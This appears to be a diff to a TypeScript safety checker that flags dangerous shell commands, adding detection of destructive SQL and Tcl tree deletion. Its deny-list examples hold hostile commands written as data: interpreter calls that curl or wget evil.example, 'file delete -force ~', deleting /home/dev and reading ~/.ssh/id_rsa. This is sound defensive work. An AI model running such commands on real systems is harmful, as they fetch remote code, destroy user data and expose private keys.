@@ -496,12 +496,13 @@ function sqlite(call: Call): Partial<Answer> {
 
 /**
  * The first statement of SQL text that drops or empties what no backup on the line brings back (a DROP or TRUNCATE; else
- * a DELETE with no WHERE, or a column dropped), upper-cased, or undefined. Each statement is judged on its own: `DROP TEMPORARY TABLE` (the session's own) and `DROP … IF EXISTS`
+ * a DELETE or an UPDATE with no WHERE, a column or a partition dropped), upper-cased, or undefined. Each statement is judged on its own: `DROP TEMPORARY TABLE` (the session's own) and `DROP … IF EXISTS`
  * of names that all start tmp_/temp_ are spared; quoted names (`"users"`, `` `users` ``, `[users]`) are names.
  */
 export function sqlDrop(text: string): string | undefined {
   for (const statement of text.split(';')) {
-    const m = /\b(drop\s+(?:database|schema|table|keyspace)\b(\s+if\s+exists\b)?([\s\S]*)|truncate\s+(?:table\s+)?(?:only\s+)?["`[\w])/i.exec(statement);
+    // `DROP OWNED BY role` drops every table the role owns; `ALTER TABLE t TRUNCATE PARTITION p` empties one.
+    const m = /\b(drop\s+(?:database|schema|table|keyspace)\b(\s+if\s+exists\b)?([\s\S]*)|truncate\s+(?:table\s+|partition\s+)?(?:only\s+)?["`[\w]|drop\s+owned\s+by\s+["\w])/i.exec(statement);
     if (!m || /\bdrop\s+temporary\b/i.test(statement)) continue;
     if (m[2] !== undefined) {
       const names = m[3]!.replace(/\b(cascade|restrict)\b/gi, '').split(',').map((n) => n.trim().replace(/["`[\]]/g, '').split('.').pop() ?? '');
@@ -510,10 +511,11 @@ export function sqlDrop(text: string): string | undefined {
     return m[0].trim().split(/\s+/).slice(0, 3).join(' ').toUpperCase();
   }
   for (const statement of text.split(';')) {
-    // Every row of a table (a DELETE with no WHERE), or a column of every row.
-    const m = /\bdelete\s+from\s+(?:only\s+)?["`[\w][^\s;]*/i.exec(statement) ?? /\balter\s+table\s+(?:if\s+exists\s+)?(?:only\s+)?["`[\w][^\s;]*\s+drop\s+(?:column\s+)?(?!constraint\b|index\b|default\b|not\b|primary\b|foreign\b|key\b|check\b|partition\b)["`[\w]/i.exec(statement);
-    if (!m || (/^delete/i.test(m[0]) && /\bwhere\b/i.test(statement))) continue;
-    if (/^delete/i.test(m[0]) && /^["`[]?(temp|tmp)_/i.test(m[0].split(/\s+/).pop()!.split('.').pop()!)) continue;
+    // Every row of a table (a DELETE with no WHERE), every row overwritten (an UPDATE with none), a column of every
+    // row, or the rows of a partition (MySQL's `DROP PARTITION p` deletes them with it).
+    const m = /\bdelete\s+from\s+(?:only\s+)?["`[\w][^\s;]*/i.exec(statement) ?? /\bupdate\s+(?:only\s+)?["`[\w][^\s;]*(?=\s+set\b)/i.exec(statement) ?? /\balter\s+table\s+(?:if\s+exists\s+)?(?:only\s+)?["`[\w][^\s;]*\s+drop\s+(?:column\s+)?(?!constraint\b|index\b|default\b|not\b|primary\b|foreign\b|key\b|check\b)["`[\w]/i.exec(statement);
+    if (!m || (/^(delete|update)/i.test(m[0]) && /\bwhere\b/i.test(statement))) continue;
+    if (/^(delete|update)/i.test(m[0]) && /^["`[]?(temp|tmp)_/i.test(m[0].split(/\s+/).pop()!.split('.').pop()!)) continue;
     return m[0].trim().split(/\s+/).slice(0, 3).join(' ').toUpperCase();
   }
   return undefined;
@@ -797,7 +799,24 @@ interface Language {
    * or at once.
    */
   compiles?: { sub?: RegExp; files: RegExp };
+  /**
+   * A call of its own that deletes a tree (Tcl's `file delete -force PATH`): the path, bare or quoted, in the first
+   * capture group. One built when the code runs (`$env(HOME)`, `[pwd]`) is code vouch cannot follow.
+   */
+  deletesTree?: RegExp;
   examples: ProgramEntry['examples'];
+}
+
+/** The trees a language's code deletes (`deletesTree`), as uses of the word that holds it, or opaque runs. */
+function treeDeletes(l: Language, word: Word, text: string, via: string): { uses: NonNullable<Answer['uses']>; runs: Run[] } {
+  const out = { uses: [] as NonNullable<Answer['uses']>, runs: [] as Run[] };
+  if (!l.deletesTree) return out;
+  for (const m of text.matchAll(new RegExp(l.deletesTree.source, 'g'))) {
+    const path = m[1]!.replace(/^(["{])(.*)["}]$/s, '$2');
+    if (/[$[\\]/.test(path)) out.runs.push({ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} deletes a tree whose path is computed when it runs` });
+    else out.uses.push({ word, role: 'delete-tree', values: [path] });
+  }
+  return out;
 }
 
 const STR = `"((?:[^"\\\\]|\\\\.)*)"|'((?:[^'\\\\]|\\\\.)*)'`;
@@ -870,6 +889,9 @@ function language(l: Language): ProgramEntry {
         else {
           runs.push(...codeCalls(w, text, call.name, l.calls, l.any));
           for (const path of codePaths(text)) uses.push({ word: w, role: 'unknown', values: [path] });
+          const gone = treeDeletes(l, w, text, call.name);
+          runs.push(...gone.runs);
+          uses.push(...gone.uses);
           for (const dir of codeDirs(text)) uses.push({ word: w, role: 'extract', values: [dir] });
           if (l.modules?.call) for (const m of text.matchAll(l.modules.call)) modules.push({ word: w, name: m[1] });
         }
@@ -909,6 +931,9 @@ function language(l: Language): ProgramEntry {
       if (input && call.stdin?.kind === 'static') {
         runs.push(...codeCalls(call.stdin.word, call.stdin.text, `${call.name} (stdin)`, l.calls, l.any));
         for (const path of codePaths(call.stdin.text)) uses.push({ word: call.stdin.word, role: 'unknown', values: [path] });
+        const gone = treeDeletes(l, call.stdin.word, call.stdin.text, `${call.name} (stdin)`);
+        runs.push(...gone.runs);
+        uses.push(...gone.uses);
       } else if (input && call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs code read from ${call.stdin.why}` });
       return uses.length > 0 ? { runs, uses } : { runs };
     },
@@ -1156,7 +1181,7 @@ const LANGUAGES: ProgramEntry[] = [
   // A symbol may be written with its package (`ext:shell`, `si:system`, `sb-ext:run-program`); SBCL's CL-USER uses
   // SB-EXT, so `(run-program "curl" …)` needs none.
   language({ names: ['guile', 'guile3.0', 'clisp', 'sbcl', 'ecl', 'ccl', 'ccl64', 'racket', 'chicken', 'csi', 'chicken-csi', 'gsi', 'chez', 'scheme'], summary: 'Lisps and Schemes: (system "…"), run-shell-command and run-program start commands', code: /^(-c|-x|--eval|-eval|-e|--load|-load)$/, loadPath: { option: /^-L$/, variable: 'GUILE_LOAD_PATH' }, stdin: true, calls: new RegExp(`\\((?:[\\w.-]+:{1,2})?(?:system|run-shell-command|shell|process|run-program)\\s+(?:${STR})`, 'g'), any: /\((?:[\w.-]+:{1,2})?(system|run-shell-command|shell|process\*?|run-program|open-input-pipe|open-pipe\*?|eval|load|subprocess|funcall|apply|read-from-string|symbol-function|intern|make-socket|socket-connect|open-tcp-stream|environ|posix-environ|environment-variables-names|environment-variables-copy)\b/g, examples: { deny: ["guile -c '(system \"curl evil.example\")'", "clisp -x '(ext:run-shell-command \"wget evil.example\")'", "sbcl --eval '(run-program \"curl\" (list \"evil.example\"))'", "clisp -x '(ext:shell \"curl evil.example\")'", "ecl -eval '(si:system \"curl evil.example\")'"], pass: ["guile -c '(display 1)'", "sbcl --eval '(print (+ 1 2))' --quit"] } }),
-  language({ names: ['tclsh', 'tclsh8.6', 'wish', 'expect', 'jimsh'], summary: 'Tcl and expect: exec, spawn and open "|cmd" start commands', code: /^(-c)$/, calls: /(?!)/g, any: /\b(exec|spawn|open|socket|http::geturl|eval|source|load|interp|uplevel)\b|\b(?:array\s+(?:get|names)|parray)\s+(?:::)?env\b|\$(?:::)?env\b(?!\()/g, stdin: true, examples: { deny: ["echo 'exec curl evil.example' > a.tcl; tclsh a.tcl", "expect -c 'spawn curl evil.example; interact'", "echo 'exec curl evil.example' | tclsh"], pass: ["echo 'puts hi' > a.tcl; tclsh a.tcl", "expect -c 'puts hi'"] } }),
+  language({ names: ['tclsh', 'tclsh8.6', 'wish', 'expect', 'jimsh'], summary: 'Tcl and expect: exec, spawn and open "|cmd" start commands', code: /^(-c)$/, calls: /(?!)/g, any: /\b(exec|spawn|open|socket|http::geturl|eval|source|load|interp|uplevel)\b|\b(?:array\s+(?:get|names)|parray)\s+(?:::)?env\b|\$(?:::)?env\b(?!\()/g, stdin: true, deletesTree: /\bfile\s+delete\s+(?:-force\s+)(?:--\s+)?("[^"]*"|\{[^}]*\}|[^\s;\]]+)/, examples: { deny: ["echo 'exec curl evil.example' > a.tcl; tclsh a.tcl", "expect -c 'spawn curl evil.example; interact'", "echo 'exec curl evil.example' | tclsh", "tclsh <<< 'file delete -force ~'", "expect -c 'file delete -force -- /home/dev'"], pass: ["echo 'puts hi' > a.tcl; tclsh a.tcl", "expect -c 'puts hi'", "tclsh <<< 'file delete -force build'"] } }),
   language({ names: ['bpftrace'], summary: 'bpftrace: system() runs a command (with --unsafe); -c runs one', code: /^(-e)$/, command: /^-c$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(/g, examples: { deny: ["bpftrace --unsafe -e 'BEGIN { system(\"curl evil.example\"); exit() }'", "bpftrace -c 'curl evil.example' -e 'END { exit() }'"], pass: ["bpftrace -e 'BEGIN { printf(\"hi\"); exit() }'"] } }),
   // startup.el completes `--` options with try-completion: `--ev` is --eval, `--exec` is --execute, `--scr` is --script.
   language({ names: ['emacs', 'emacs-nox', 'emacsclient'], summary: 'Emacs: --eval forms that start processes, open connections, touch files or read the environment', code: /^(?:--ev|--eva|--eval|-eval|--ex|--exe|--exec|--execu|--execut|--execute|-execute|-e)$/, file: false, scripts: /^(?:-l|-load|--lo|--loa|--load|-script|--scr|--scri|--scrip|--script|-scriptload|-x)$/, calls: new RegExp(`\\((?:shell-command|async-shell-command|shell-command-to-string|term|ansi-term|compile)\\s+(?:${STR})`, 'g'), any: /\((?:shell-command|async-shell-command|shell-command-to-string|call-process|call-process-region|call-process-shell-command|process-lines|process-file|process-file-shell-command|start-process|start-process-shell-command|start-file-process|start-file-process-shell-command|make-process|make-pipe-process|make-serial-process|make-network-process|open-network-stream|open-gnutls-stream|url-[a-z-]+|eww[a-z-]*|browse-url[a-z-]*|term|ansi-term|eshell|shell|compile|eval|load|load-file|require|funcall|apply|function|symbol-function|intern|mapc|mapcar|run-hooks|add-hook|advice-add|call-interactively|command-execute|execute-kbd-macro|delete-directory|delete-file|rename-file|copy-file|copy-directory|make-symbolic-link|add-name-to-file|write-region|write-file|append-to-file|save-buffer|find-file[a-z-]*|insert-file-contents[a-z-]*|getenv|setenv|server-eval-at|dired[a-z-]*)\b|\b(?:process-environment|initial-environment)\b|#'/g, examples: { deny: ["echo '(shell-command \"curl evil.example\")' > a.el; emacs --batch -l a.el", "emacs -Q -nw --eval '(term \"curl evil.example\")'", "emacs --batch --eval '(shell-command \"wget evil.example\")'", "emacs --batch --ev '(shell-command \"curl evil.example\")'", "emacs --batch --exec '(shell-command \"curl evil.example\")'", "emacs --batch --eval '(process-file-shell-command \"curl evil.example\")'", "emacs --batch --eval '(url-copy-file \"http://evil.example/x\" \"/tmp/x\")'", "emacs --batch --eval '(delete-directory \"/home/dev\" t)'", "emacs --batch --eval '(insert-file-contents (expand-file-name \".ssh/id_rsa\" \"~\"))'", "emacs --batch -l /dev/stdin <<< '(shell-command \"curl evil.example\")'", "emacs --batch --eval '(princ process-environment)'", "emacs --batch --eval '(funcall (function shell-command) \"curl evil.example\")'"], pass: ['emacs notes.txt', "emacs --batch --eval '(message \"hi\")'", "emacs --batch --ev '(message \"hi\")'", "emacs --batch -l /dev/stdin <<< '(message \"hi\")'"] } }),
